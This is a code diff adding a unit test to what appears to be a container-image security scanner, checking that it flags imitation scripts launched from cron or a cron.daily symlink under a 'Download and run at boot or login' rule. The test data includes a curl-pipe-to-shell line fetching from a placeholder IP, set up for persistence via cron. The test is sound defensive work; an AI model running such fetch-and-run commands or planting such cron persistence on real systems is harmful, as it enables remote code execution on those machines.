@@ -223,6 +223,26 @@ class Images(Scratch):
         image.commit('RUN repair')
         self.assertEqual(told(image.layout), set())
 
+    def test_a_script_elsewhere_is_judged_as_what_starts_it(self):
+        fetches = '#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s http://192.0.2.7/x | sh\n'
+        image = images.Layout(self.temp)
+        images.base(image)
+        image.write('/opt/x/part.sh', fetches, 0o755)
+        image.write('/opt/y/nothing-starts-it.sh', fetches, 0o755)
+        image.write('/opt/x/run.sh', '#!/bin/bash\n. "$(dirname "$0")"/part.sh\n', 0o755)
+        image.commit('ADD base.tar /')
+        image.write('/etc/cron.d/x', '*/5 * * * * root /opt/x/run.sh\n')
+        image.write('/opt/z/link-target', fetches.replace('/x |', '/z |'), 0o755)
+        (image.root / 'etc/cron.daily').mkdir()
+        (image.root / 'etc/cron.daily/z').symlink_to('../../opt/z/link-target')
+        image.commit('RUN x')
+        cache = {'XDG_CACHE_HOME': str(self.temp / 'cache')}
+        for target in (image.layout, image.layout, image.root):
+            report, code = scan('--no-feed', target, env=cache)
+            told = sorted(f['subject']['name'] for f in findings(report['targets'][0]) if f['rule'] == 'Download and run at boot or login')
+            self.assertEqual(told, ['/opt/x/part.sh', '/opt/z/link-target'], target)
+            self.assertEqual(code, 1)
+
     def test_capabilities_of_a_file_in_a_layer(self):
         value = struct.pack('<IIIII', 0x02000001, 1 << 7, 0, 0, 0).decode('utf-8', 'surrogateescape')
         elf = imitations.tiny_elf()
